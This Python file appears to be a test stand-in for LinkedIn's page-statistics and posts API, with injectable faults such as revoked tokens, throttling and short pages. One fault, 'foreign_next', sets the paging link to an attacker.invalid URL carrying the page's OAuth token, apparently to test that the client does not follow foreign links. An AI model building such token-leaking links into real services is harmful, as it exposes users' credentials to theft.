"""A stand-in for LinkedIn's API: it answers and refuses like LinkedIn's. Never a deployment's default.

It follows LinkedIn's documentation and others' experience, not what this package's connector sends.
"""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence
from datetime import UTC, date, datetime, time, timedelta
from typing import Any
from urllib.parse import unquote
from uuid import uuid4

from starlette.requests import Request
from starlette.responses import JSONResponse, Response

from include.sandbox import faults, serving
from include.sandbox.stand_ins.linkedin_page.world import (
    FOLLOWERS_LAG,
    SHARE_METRICS,
    Fault,
    Page,
    Post,
    World,
)

#: The oldest version that is served.
OLDEST_VERSION = "202601"
_DAY = 86_400_000
_ORGANIZATION = re.compile(r"urn:li:organization:(\d+)")
_INTERVAL = re.compile(r"\(timeRange:\(start:(\d{1,15}),end:(\d{1,15})\),timeGranularityType:(\w+)\)")
_LIST = re.compile(r"List\(([^()]*)\)")
#: The number of posts that some faults show at once.
_SHORT_PAGE = 5
_PARAMETERS: Mapping[str, set[str]] = {
    "organizationalEntityShareStatistics": {
        "q", "organizationalEntity", "timeIntervals", "shares", "ugcPosts",
    },
    "organizationalEntityFollowerStatistics": {"q", "organizationalEntity", "timeIntervals"},
    "organizationPageStatistics": {"q", "organization", "timeIntervals"},
    "networkSizes": {"edgeType"},
    "posts": {"q", "author", "sortBy", "start", "count", "viewContext", "isDsc"},
}  # fmt: skip
_CONTENT: Mapping[str, dict[str, Any]] = {
    "image": {"media": {"id": "urn:li:image:C4E10AQFoyyAjHPMQuQ"}},
    "video": {"media": {"id": "urn:li:video:C5F10AQGKQg_6y2a4sQ"}},
    "document": {"media": {"id": "urn:li:document:D4D10AQHF9y2XBw4X3A"}},
    "ad": {"media": {"id": "urn:li:video:C5F10AQGKQg_6y2a4sR"}},
    "link": {"article": {"source": "https://shop.example/news", "title": "News"}},
}


class LinkedInError(Exception):
    """An error in the API's words."""

    def __init__(
        self, status: int, code: str | None, message: str, service_error_code: int | None = None
    ) -> None:
        super().__init__(message)
        self.status = status
        fields = {"status": status, "serviceErrorCode": service_error_code, "code": code, "message": message}
        self._body = {name: value for name, value in fields.items() if value is not None}

    def response(self) -> Response:
        """The answer; each has a new id."""
        return JSONResponse(self._body, self.status, headers={"x-li-uuid": str(uuid4())})


def _bad(message: str) -> LinkedInError:
    return LinkedInError(400, "ILLEGAL_ARGUMENT", message)


def _denied(resource: str) -> LinkedInError:
    return LinkedInError(403, "ACCESS_DENIED", f"Not enough permissions to access: {resource}.FINDER", 100)


def _unpermitted(parameter: str) -> LinkedInError:
    return LinkedInError(
        403,
        "ACCESS_DENIED",
        f"Unpermitted fields present in PARAMETER: Data Processing Exception while processing fields "
        f"[/{parameter}]",
        100,
    )


def _not_admin(page_id: str) -> LinkedInError:
    return LinkedInError(
        403,
        None,
        "Viewer don't have permission to the ADMIN_ONLY VisibilityReduction for "
        f"urn:li:organization:{page_id}",
    )


def _throttled(whose: str) -> LinkedInError:
    return LinkedInError(
        429,
        "TOO_MANY_REQUESTS",
        f"Resource level throttle {whose} DAY limit for calls to this resource is reached.",
        101,
    )


_DOWN = LinkedInError(500, "INTERNAL_SERVER_ERROR", "Internal Server Error", 0)

#: Faults that give an error for any request.
_ERRORS: Mapping[str, LinkedInError] = {
    "token_revoked": LinkedInError(
        401, "REVOKED_ACCESS_TOKEN", "The token used in the request has been revoked by the user", 65601
    ),
    "token_expired": LinkedInError(
        401, "EXPIRED_ACCESS_TOKEN", "The token used in the request has expired", 65602
    ),
    "no_product": _denied("organizationalEntityShareStatistics"),
    "version_ended": LinkedInError(426, "NONEXISTENT_VERSION", "Requested version 20260301 is not active"),
    "unpermitted_fields": _unpermitted("timeIntervals"),
    "app_throttled": _throttled("APPLICATION"),
    "member_throttled": _throttled("APPLICATION_AND_MEMBER"),
    "down": _DOWN,
}


class LinkedInApi(serving.Api):
    """The stand-in, for one world."""

    fault_type = Fault

    def __init__(self, world: World, latency: float = 0.0) -> None:
        """:param latency: the least seconds that each answer takes."""
        super().__init__(world, latency)
        self.world = world

    def account_of(self, request: Request) -> str | None:
        """The id of the page that a request is about."""
        found = _ORGANIZATION.search(serving.path_of(request) + unquote(request.url.query))
        return found[1] if found and found[1] in self.world.pages else None

    def answer(self, request: Request, fault: faults.Fault | None) -> Response:
        """The answer to a request."""
        fault = fault if isinstance(fault, Fault) else None
        try:
            return JSONResponse(self._answer(request, fault))
        except LinkedInError as error:
            return error.response()

    def _answer(self, request: Request, fault: Fault | None) -> dict[str, Any]:
        page = self._authenticated(request)
        if fault and fault.kind in _ERRORS:
            raise _ERRORS[fault.kind]
        _require_version(request)
        top, resource, *rest = [*serving.path_of(request).strip("/").split("/"), ""]
        if request.method != "GET" or top != "rest" or resource not in _PARAMETERS:
            raise LinkedInError(404, "RESOURCE_NOT_FOUND", "No virtual resource found", 0)
        ask = _Ask(self.world, page, request, fault)
        for name in ask.query:
            if name not in _PARAMETERS[resource]:
                raise _unpermitted(name)
        part = "totals" if {"shares", "ugcPosts"} & set(ask.query) else resource
        if fault and fault.resource == part:
            raise _denied(resource) if fault.kind == "refused" else _DOWN
        match resource:
            case "networkSizes":
                return ask.network_size(rest[0])
            case "posts":
                return ask.posts()
            case "organizationPageStatistics":
                return ask.page_statistics()
            case "organizationalEntityFollowerStatistics":
                return ask.follower_statistics()
            case _:
                return ask.totals() if part == "totals" else ask.share_statistics()

    def _authenticated(self, request: Request) -> Page:
        scheme, _, token = request.headers.get("Authorization", "").partition(" ")
        if not token or scheme.lower() != "bearer":
            raise LinkedInError(401, "EMPTY_ACCESS_TOKEN", "Empty oauth2 access token", 65604)
        page = self.world.page_of(token)
        if page is None:
            raise LinkedInError(401, "INVALID_ACCESS_TOKEN", "Invalid access token", 65600)
        return page


def _require_version(request: Request) -> None:
    version = request.headers.get("LinkedIn-Version")
    if version is None:
        raise LinkedInError(
            400,
            "VERSION_MISSING",
            "A version must be present. Please specify a version by adding the LinkedIn-Version header.",
        )
    if not re.fullmatch(r"20\d{4}", version) or version < OLDEST_VERSION:
        raise LinkedInError(426, "NONEXISTENT_VERSION", f"Requested version {version}01 is not active")


class _Ask:
    """One request about a page."""

    def __init__(self, world: World, page: Page, request: Request, fault: Fault | None) -> None:
        self._world, self._page, self._request = world, page, request
        self._kind = fault.kind if fault else None
        pairs = (pair.partition("=") for pair in request.url.query.split("&") if pair)
        #: As it was sent: what structures a value differs from what is text in it.
        self.query = {name: value for name, _, value in pairs}

    def network_size(self, urn: str) -> dict[str, Any]:
        if self.query.get("edgeType") != "COMPANY_FOLLOWED_BY_MEMBER":
            raise _bad("Parameter 'edgeType' is required")
        self._require_admin(urn)
        return {"firstDegreeSize": self._world.followers(self._page.id)}

    def share_statistics(self) -> dict[str, Any]:
        self._find("organizationalEntity", "organizationalEntity")
        return _collection(
            {
                "totalShareStatistics": _share_figures(
                    {metric: self._value(metric, day) for metric in SHARE_METRICS}
                ),
                "organizationalEntity": self._page.urn,
                "timeRange": _time_range(day),
            }
            for day in self._days()
        )

    def follower_statistics(self) -> dict[str, Any]:
        self._find("organizationalEntity", "organizationalEntity")
        return _collection(
            {
                "followerGains": {
                    metric: self._value(metric, day) for metric in ("organicFollowerGain", "paidFollowerGain")
                },
                "organizationalEntity": self._page.urn,
                "timeRange": _time_range(day),
            }
            for day in self._days()
            if day <= self._world.today - FOLLOWERS_LAG
        )

    def page_statistics(self) -> dict[str, Any]:
        self._find("organization", "organization")
        return _collection(
            {
                "totalPageStatistics": {
                    "clicks": {},
                    "views": {
                        "allPageViews": {
                            metric: self._value(metric, day) for metric in ("pageViews", "uniquePageViews")
                        }
                    },
                },
                "organization": self._page.urn,
                "timeRange": _time_range(day),
            }
            for day in self._days()
        )

    def totals(self) -> dict[str, Any]:
        self._find("organizationalEntity", "organizationalEntity")
        if "timeIntervals" in self.query:
            raise _bad("Time-bound statistics is not supported for specific share queries")
        posts = {post.urn: post for post in self._world.listed(self._page.id)}
        elements = []
        for parameter, name in (("shares", "share"), ("ugcPosts", "ugcPost")):
            for urn in self._list(parameter):
                if not urn.startswith(f"urn:li:{name}:"):
                    raise LinkedInError(400, "INVALID_URN_TYPE", f"Invalid urn type: {urn}")
                figures = self._world.post_values(posts[urn]) if urn in posts else {}
                # A post without activity is left out.
                if any(figures.values()):
                    elements.append(
                        {
                            "totalShareStatistics": _share_figures(figures),
                            name: urn,
                            "organizationalEntity": self._page.urn,
                        }
                    )
        return _collection(elements)

    def posts(self) -> dict[str, Any]:
        self._find("author", "author")
        start, count = self._position("start", 0, 10**6), self._position("count", 10, 100)
        if self.query.get("sortBy", "LAST_MODIFIED") not in ("LAST_MODIFIED", "CREATED"):
            raise LinkedInError(400, "INVALID_VALUE_FOR_FIELD", "Invalid value for sortBy")
        posts = self._world.listed(self._page.id)
        if self._kind in ("short_pages", "without_links", "lost_page"):
            count = min(count, _SHORT_PAGE)
        if self._kind == "lost_page" and start > 0:
            raise LinkedInError(404, "NOT_FOUND", f"Cannot find entity {self._page.urn}")
        answer = _collection([_post(post) for post in posts[start : start + count]], start, count)
        if start + count < len(posts) and self._kind != "without_links":
            href = f"/rest/posts?q=author&start={start + count}&count={count}"
            if self._kind == "foreign_next":
                href = f"http://attacker.invalid/steal?oauth2_access_token={self._page.token}"
            answer["paging"]["links"] = [{"type": "application/json", "rel": "next", "href": href}]
        return answer

    def _find(self, finder: str, parameter: str) -> None:
        """Check the finder, and who asks about which page."""
        if self.query.get("q") != finder:
            raise _bad(f"Unknown query 'q={self.query.get('q')}' on this resource")
        if parameter not in self.query:
            raise _bad(f"Parameter '{parameter}' is required")
        self._require_admin(unquote(self.query[parameter]))

    def _require_admin(self, urn: str) -> None:
        if not _ORGANIZATION.fullmatch(urn):
            raise LinkedInError(400, "INVALID_URN_TYPE", f"Invalid urn type: {urn}")
        if urn != self._page.urn or self._kind == "not_admin":
            raise _not_admin(urn.rpartition(":")[2])
        if self._kind == "page_gone":
            raise LinkedInError(404, "NOT_FOUND", f"Organization {self._page.id} is inactive")

    def _days(self) -> Sequence[date]:
        """The days of ``timeIntervals``, of which both ends must be midnights in UTC."""
        self._require_restli()
        given = _INTERVAL.fullmatch(self.query.get("timeIntervals", ""))
        if given is None or given[3] != "DAY":
            raise _bad("Invalid value for parameter timeIntervals")
        start, end = int(given[1]), int(given[2])
        if start % _DAY or end % _DAY or end - start < _DAY:
            raise _bad("timeRange: start and end must be at least 24 hours apart, each at midnight UTC")
        first = datetime.fromtimestamp(start / 1000, UTC).date()
        days = [first + timedelta(days=n) for n in range((end - start) // _DAY)]
        return [] if self._kind == "days_left_out" else days

    def _value(self, metric: str, day: date) -> int:
        late = timedelta(hours=36) if self._kind == "not_counted" else timedelta()
        ended = datetime.combine(day + timedelta(days=1), time.min, UTC)
        return self._world.value(self._page.id, metric, day) if ended <= self._world.now() - late else 0

    def _list(self, parameter: str) -> list[str]:
        if parameter not in self.query:
            return []
        self._require_restli()
        given = _LIST.fullmatch(self.query[parameter])
        if given is None or ":" in given[1]:
            raise _bad(f"Invalid value for parameter {parameter}: a list of encoded URNs is wanted")
        return [unquote(urn) for urn in given[1].split(",")]

    def _require_restli(self) -> None:
        if self._request.headers.get("X-Restli-Protocol-Version") != "2.0.0":
            raise _bad("Rest.li 2.0 syntax needs the header X-Restli-Protocol-Version: 2.0.0")

    def _position(self, name: str, default: int, most: int) -> int:
        given = self.query.get(name, str(default))
        if not given.isdigit() or int(given) > most:
            raise _bad(f"Invalid value for parameter {name}")
        return int(given)


def _collection(elements: Any, start: int = 0, count: int = 10) -> dict[str, Any]:
    return {"paging": {"start": start, "count": count, "links": []}, "elements": [*elements]}


def _time_range(day: date) -> dict[str, int]:
    start = _milliseconds(datetime.combine(day, time.min, UTC))
    return {"start": start, "end": start + _DAY}


def _milliseconds(moment: datetime) -> int:
    return round(moment.timestamp() * 1000)


def _share_figures(figures: Mapping[str, int]) -> dict[str, Any]:
    interactions = sum(figures[name] for name in ("clickCount", "likeCount", "commentCount", "shareCount"))
    rate = interactions / figures["impressionCount"] if figures["impressionCount"] else 0.0
    return {**figures, "engagement": rate}


def _post(post: Post) -> dict[str, Any]:
    body: dict[str, Any] = {
        "id": post.urn,
        "author": f"urn:li:organization:{post.page_id}",
        "createdAt": _milliseconds(post.created_at),
        "publishedAt": _milliseconds(post.published_at),
        "lastModifiedAt": _milliseconds(post.published_at) + 1,
        "lifecycleState": "PUBLISHED",
        "visibility": "PUBLIC",
        "commentary": post.text or "",
        "distribution": {"feedDistribution": "NONE" if post.is_ad else "MAIN_FEED"},
        "isReshareDisabledByAuthor": False,
    }
    if post.kind in _CONTENT:
        body["content"] = _CONTENT[post.kind]
    if post.kind == "reshare":
        body["reshareContext"] = {"parent": "urn:li:share:7000000000000000001"}
    if post.is_ad:
        body["adContext"] = {"isDsc": True, "dscStatus": "ACTIVE"}
    return body
